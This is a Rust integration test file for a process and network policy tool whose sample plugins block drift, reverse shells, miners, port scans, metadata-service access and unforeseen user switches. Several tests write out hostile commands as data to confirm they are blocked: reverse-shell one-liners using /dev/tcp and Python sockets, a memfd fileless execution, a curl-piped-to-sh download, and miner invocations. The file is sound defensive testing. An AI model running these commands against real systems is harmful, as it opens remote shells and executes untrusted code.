//! The sample plugins in `plugins/`: that they do what they are for, to real programs.

use std::collections::BTreeMap;
use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;
use std::sync::OnceLock;
use std::thread;
use std::time::{SystemTime, UNIX_EPOCH};

use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::harness::{Fixture, repository, run};
use crate::plugins::component;
use crate::reload::Workload;

const SAMPLES: [&str; 8] =
    ["drift", "egress", "hours", "miner", "no-shell-from-servers", "rate-limit", "reverse-shell", "user-switch"];

/// The component of a sample. All are built one after the other, the first time that one is wanted: cargo would have them wait
/// for each other anyway.
pub fn sample(name: &str) -> &'static [u8] {
    static COMPONENTS: OnceLock<BTreeMap<&str, Vec<u8>>> = OnceLock::new();
    let components = COMPONENTS.get_or_init(|| {
        let target = Path::new(env!("OUT_DIR")).join("wasm");
        let build = |name| component::build(&repository(""), &format!("callgate-{name}"), &target).unwrap();
        SAMPLES.into_iter().map(|name| (name, build(name))).collect()
    });
    &components[name]
}

/// A policy with a sample, which only forbids, and nothing else.
fn policy(name: &str, config: &Value) -> Value {
    json!({ "plugins": [{ "name": name, "path": "sample.wasm", "config": config }], "default": "allow" })
}

fn with(name: &str, config: &Value) -> Fixture {
    let fixture = Fixture::new(policy(name, config));
    fs::write(fixture.path("sample.wasm"), sample(name)).unwrap();
    fixture
}

fn rules(fixture: &Fixture) -> Vec<String> {
    fixture.records_of("denied").iter().map(|record| record["rule"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn every_samples_table_of_cases_says_what_it_does_and_its_schema_takes_their_configurations() {
    for name in SAMPLES {
        let fixture = with(name, &json!({}));
        let plugin = |arguments: &[&str]| {
            let mut command = Command::new(env!("CARGO_BIN_EXE_callgatectl"));
            run(command.arg("plugin").args(arguments).current_dir(fixture.path("")))
        };
        let table = repository("plugins").join(name).join("cases.json");
        let outcome = plugin(&["test", "sample.wasm", table.to_str().unwrap()]);
        assert_eq!(outcome.code(), 0, "{name}: {outcome:?}");

        let told: Value = serde_json::from_str(&plugin(&["inspect", "--json", "sample.wasm"]).stdout).unwrap();
        let schema = &told["config_schema"];
        let schema: Value = schema.as_str().map_or_else(|| schema.clone(), |text| serde_json::from_str(text).unwrap());
        let validator = jsonschema::validator_for(&schema).unwrap();
        let cases: Value = serde_json::from_slice(&fs::read(table).unwrap()).unwrap();
        for case in cases["cases"].as_array().unwrap() {
            assert!(validator.is_valid(&case["config"]), "{name}: {case}");
        }
        assert!(!validator.is_valid(&json!({ "no_such_key": 1 })), "{name}: {schema}");
    }
}

#[test]
fn drift_runs_what_was_there_before_the_start_and_nothing_that_came_later() {
    let echo = fs::read("/bin/echo").unwrap();
    let digest: String = Sha256::digest(&echo).iter().map(|byte| format!("{byte:02x}")).collect();
    let memfd =
        "import os; m = os.memfd_create('m'); os.write(m, open('/bin/true', 'rb').read()); os.execve(m, ['m'], {})";
    let script = |fixture: &Fixture| {
        let new = fixture.path("new");
        format!(
            "cp /bin/true {0}; {0}; echo $?; cp -p /bin/true {0}; {0}; echo $?; ln -s /bin/true {0}-link; {0}-link; echo $?; \
             printf '#!{0}\\n' > {0}-script; chmod +x {0}-script; {0}-script; echo $?; \
             cp /bin/echo {0}-echo; {0}-echo known; echo $?; /usr/bin/python3 -c \"{memfd}\" 2>&1 | tail -n 1",
            new.display()
        )
    };
    let fixture = with("drift", &json!({ "except_sha256": [digest] }));
    let outcome = fixture.bash(&script(&fixture));
    let refused = "PermissionError: [Errno 13] Permission denied: 3\n";
    assert_eq!(outcome.stdout, format!("126\n126\n0\n126\nknown\n0\n{refused}"), "{outcome:?}");
    assert_eq!(rules(&fixture), ["drift.changed", "drift.changed", "drift.changed", "drift.fileless"]);

    let fixture = Fixture::new(json!({}));
    let mut policy = policy("drift", &json!({ "except_below": [fixture.path("")] }));
    policy["audit"] = json!({ "sinks": [] });
    fs::write(fixture.policy(), policy.to_string()).unwrap();
    fs::write(fixture.path("sample.wasm"), sample("drift")).unwrap();
    let new = fixture.path("new");
    assert_eq!(fixture.bash(&format!("cp /bin/echo {0}; {0} on", new.display())).stdout, "on\n");
}

#[test]
fn a_server_starts_no_shell_and_neither_does_what_it_starts() {
    let fixture = with("no-shell-from-servers", &json!({ "servers": ["python3*"] }));
    let server = fixture.path("nginx");
    fs::copy("/usr/bin/env", &server).unwrap();
    let outcome = fixture.bash(&format!(
        "bash -c 'echo free'; {0} bash -c 'echo caught'; {0} true; echo $?; {0} {0} env sh -c 'echo caught'; \
         python3 -c 'import os; os.system(\"echo caught\"); print(os.spawnl(os.P_WAIT, \"/bin/true\", \"true\"))'",
        server.display()
    ));
    assert_eq!(outcome.stdout, "free\n0\n0\n", "{outcome:?}");
    for server in ["/nginx,", "/python3"] {
        let below = |record: &Value| record["reason"].as_str().unwrap().contains(server);
        assert!(fixture.records_of("denied").iter().any(below), "{server}");
    }
}

/// What is said on a connection to this address, after it has been told something.
fn listen(tell: &'static str) -> (u16, thread::JoinHandle<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let heard = thread::spawn(move || {
        let (mut peer, _) = listener.accept().unwrap();
        peer.write_all(tell.as_bytes()).unwrap();
        let mut heard = String::new();
        let _ = peer.read_to_string(&mut heard);
        heard
    });
    (port, heard)
}

#[test]
fn a_shell_on_a_network_socket_runs_nothing() {
    // Without the plugin, all of them give a shell to whoever listens.
    let ways = [
        "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1",
        "exec >& /dev/tcp/127.0.0.1/PORT 0>&1; while read -r line; do $line; done",
        "python3 -c 'import os, socket; s = socket.create_connection((\"127.0.0.1\", PORT)); \
         [os.dup2(s.fileno(), n) for n in range(3)]; os.execv(\"/bin/sh\", [\"sh\"])'",
    ];
    for way in ways {
        for (confined, answer) in [(false, "uid="), (true, "")] {
            let except = if confined { json!([]) } else { json!(["127.0.0.0/8"]) };
            let fixture = with("reverse-shell", &json!({ "except_peers": except }));
            let (port, heard) = listen("/usr/bin/id\nexit\n");
            let outcome = fixture.bash(&way.replace("PORT", &port.to_string()));
            let heard = heard.join().unwrap();
            assert_eq!(heard.contains("uid="), !answer.is_empty(), "{way}: {heard:?} {outcome:?}");
            assert_eq!(rules(&fixture).is_empty(), !confined, "{way}: {:?}", fixture.records());
        }
    }
    let fixture = with("reverse-shell", &json!({ "shells_may_connect": false }));
    let (port, heard) = listen("");
    let script = format!(
        "(echo > /dev/tcp/127.0.0.1/{port}) || echo refused; python3 -c 'import socket; \
         socket.create_connection((\"127.0.0.1\", {port})).sendall(b\"python\")'; bash -c 'echo shell' | cat"
    );
    assert_eq!(fixture.bash(&script).stdout, "refused\nshell\n");
    assert_eq!(heard.join().unwrap(), "python");
}

#[test]
fn bursts_and_scans_are_cut_off() {
    let fixture = with("rate-limit", &json!({ "exec": { "most": 4, "window_ms": 3_600_000 }, "scan": { "ports": 5 } }));
    // The first is bash itself.
    let outcome = fixture.bash("for n in 1 2 3 4 5; do /bin/echo $n; done");
    assert_eq!(outcome.stdout, "1\n2\n3\n");
    assert!(outcome.stderr.contains("Resource temporarily unavailable"), "{outcome:?}");
    assert_eq!(rules(&fixture), ["rate-limit.exec", "rate-limit.exec"]);

    let fixture = with("rate-limit", &json!({ "scan": { "ports": 5 } }));
    let scan = "import socket\nfor port in [1, 2, 3, 4, 5, 6, 7, 1, 1, 1]:\n try: socket.create_connection(('127.0.0.1', port))\n \
                except OSError as e: print(e.errno)";
    let outcome = fixture.run(&["/usr/bin/python3", "-c", scan]);
    let numbers = [libc::ECONNREFUSED, libc::EAGAIN].map(|errno| format!("{errno}\n"));
    assert_eq!(outcome.stdout, numbers[0].repeat(5) + &numbers[1].repeat(2) + &numbers[0].repeat(3), "{outcome:?}");
}

#[test]
fn metadata_services_and_networks_without_a_name_are_out_of_reach() {
    let connect = "import socket, sys\ndef reach(host, port):\n try: socket.create_connection((host, port), 5); return 'reached'\n \
                   except OSError as e: return e.strerror\n";
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let fixture = with("egress", &json!({}));
    let script = format!("{connect}print(reach('169.254.169.254', 80), reach('127.0.0.1', {port}))");
    assert_eq!(fixture.run(&["/usr/bin/python3", "-c", &script]).stdout, "Operation not permitted reached\n");

    // By the name that the hosts file of every system has.
    for (config, expected) in [
        (json!({ "allow": ["host:localhost"] }), "reached"),
        (json!({ "deny": ["host:localhost"] }), "Operation not permitted"),
        (json!({ "networks": { "mine": ["127.0.0.1"] }, "allow": ["mine"] }), "reached"),
        (json!({ "allow": ["private"] }), "Operation not permitted"),
    ] {
        let fixture = with("egress", &config);
        let outcome = fixture.run(&["/usr/bin/python3", "-c", &format!("{connect}print(reach('127.0.0.1', {port}))")]);
        assert_eq!(outcome.stdout, format!("{expected}\n"), "{config}: {outcome:?}");
    }
}

#[test]
fn the_kill_switch_closes_a_running_workload_and_opens_it_again() {
    let fixture = with("hours", &json!({}));
    let mut closed: Value = serde_json::from_slice(&fs::read(fixture.policy()).unwrap()).unwrap();
    closed["plugins"][0]["config"]["closed"] = true.into();
    fs::write(fixture.path("closed.json"), closed.to_string()).unwrap();
    let mut workload = Workload::start(&mut fixture.callgate());
    assert!(workload.runs("/bin/true"));
    let reloaded = workload.reload(&fixture.path("closed.json"));
    assert_eq!(reloaded.code(), 0, "{reloaded:?}");
    assert!(!workload.runs("/bin/true"));
    assert_eq!(workload.reload(&fixture.policy()).code(), 0);
    assert!(workload.runs("/bin/true"));
    workload.end();
}

#[test]
fn hours_are_those_of_the_clock() {
    const DAYS: [&str; 7] = ["mon", "tue", "wed", "thu", "fri", "sat", "sun"];
    let seconds = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs();
    // A day that neither has just ended nor is about to begin.
    let day = |from_now: u64| DAYS[((seconds / 86_400 + 3 + from_now) % 7) as usize];
    for (days, code) in [(vec![day(6), day(0), day(1)], 0), (vec![day(3)], 126)] {
        let fixture = with("hours", &json!({ "hours": [{ "days": days, "from": "00:00", "to": "24:00" }] }));
        let outcome = fixture.run(&["/bin/true"]);
        assert_eq!(outcome.code(), code, "{days:?}: {outcome:?}");
    }
}

#[test]
fn miners_and_their_downloads_do_not_run() {
    let fixture = with("miner", &json!({ "except": ["/usr/bin/printf"] }));
    // In a file, since it would itself be an argument.
    let script = "(exec -a xmrig /bin/echo name)\n/bin/echo -o stratum+tcp://pool:3333\n/usr/bin/printf 'stratum+tcp://x\\n'\n\
                  curl -so /tmp/x file:///etc/hostname\nsh -c 'curl -s file:///etc/hostname | sh'\n/bin/echo harmless\n";
    fs::write(fixture.path("script"), script).unwrap();
    let outcome = fixture.run(&["/bin/bash".as_ref(), fixture.path("script").as_os_str()]);
    assert_eq!(outcome.stdout, "stratum+tcp://x\nharmless\n", "{outcome:?}");
    assert_eq!(rules(&fixture), ["miner.name", "miner.option", "miner.download", "miner.piped"]);
}

#[test]
fn only_the_foreseen_program_becomes_the_foreseen_user() {
    let script = "import os\ndef attempt(call, *to):\n try: call(*to); return 'done'\n except PermissionError: return 'refused'\n\
                  print(attempt(os.setgroups, [33]), attempt(os.setgid, 33), attempt(os.setuid, 1000), attempt(os.setuid, 33), \
                  attempt(os.setuid, 33))";
    let python = fs::canonicalize("/usr/bin/python3").unwrap();
    let switch = json!({ "programs": [python], "from": [0], "users": [33], "groups": [33] });
    let fixture = with("user-switch", &json!({ "switches": [switch] }));
    let outcome = fixture.run(&["/usr/bin/python3", "-c", script]);
    assert_eq!(outcome.stdout, "done done refused done done\n", "{outcome:?} {:?}", fixture.records());
    let fixture = with("user-switch", &json!({}));
    assert_eq!(fixture.run(&["/usr/bin/python3", "-c", script]).stdout, "refused refused refused refused refused\n");
    assert_eq!(rules(&fixture), ["user-switch.not-foreseen"; 5]);
}
